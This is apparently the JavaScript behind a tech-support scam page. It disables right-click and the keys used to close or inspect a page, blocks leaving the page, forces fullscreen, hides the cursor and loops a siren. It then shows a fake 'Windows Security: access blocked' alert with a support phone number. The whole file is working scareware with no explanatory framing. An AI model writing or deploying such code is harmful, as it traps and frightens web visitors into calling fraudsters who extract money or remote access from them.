document.addEventListener('contextmenu', event => event.preventDefault());
window.onbeforeunload = function (e) { e.preventDefault(); e.returnValue = ''; };
document.onkeydown = function (e) {
  e = e || window.event;
  switch (e.which || e.keyCode) {
    case 17: case 18: case 27: case 82: case 85: case 87: case 112: case 122: case 123:
      e.preventDefault();
      e.stopPropagation();
  }
};
addEventListener('click', function () {
  var el = document.documentElement;
  (el.requestFullscreen || el.webkitRequestFullScreen || el.mozRequestFullScreen).call(el);
  document.getElementById('siren').play();
});
window.onload = function () {
  document.body.style.cursor = 'none';
  document.getElementById('m1').style.display = 'block';
  setInterval(function () { document.getElementById('siren').play(); }, 2000);
  setTimeout(function () { document.getElementById('chat').innerText = 'Windows Security: access blocked. Call support +1-800-000-0000'; }, 3000);
};
